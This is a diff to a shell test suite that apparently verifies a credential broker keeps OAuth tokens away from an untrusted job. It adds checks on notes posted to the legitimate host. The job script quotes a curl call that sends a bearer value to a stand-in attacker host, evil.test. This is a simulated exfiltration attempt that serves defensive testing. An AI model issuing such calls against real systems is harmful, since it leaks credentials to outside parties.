@@ -84,6 +84,9 @@ curl -sS --compressed -u "app:\$CLIENT_SECRET" -d grant_type=client_credentials 
 cat /tmp/four
 d=\$(pick access_token /tmp/four)
 echo "by gzip \$(curl -sS -H "Authorization: Bearer \$d" $O/api)"
+curl -sS -d "note=\$s" $O/notes >/dev/null
+curl -sS -H 'Content-Type: application/json' -d "{\"note\":\"\$c\"}" \
+    $O/notes >/dev/null
 echo "elsewhere \$(curl -sS -H "Authorization: Bearer \$a" https://evil.test:$EVIL/echo)"
 printf %s "\$a" >/workspace/stub
 EOF
@@ -101,6 +104,10 @@ check "the job saw no token in any spelling" no_token "$T/job.out"
 check "nor did anything in its workspace" sh -c 'cd "$0" && ! grep -rlF -f "$1" .' \
     "$T/ws" "$T/tokens"
 check "the other host got none" no_token "$T/evil.test.rec"
+grep '"/notes"' "$T/oauth.rec" >"$T/notes"
+check "control: the job wrote notes at the same host" \
+    test "$(wc -l <"$T/notes")" = 2
+check "no token could be stored in them" no_token "$T/notes"
 check "no log has one" no_token "$T"/log/*.jsonl "$T/brigd.log"
 check "the vault's file has none" no_token "$T"/state/vault
 check "each is on record" audited KY301 '"app.access_token"'
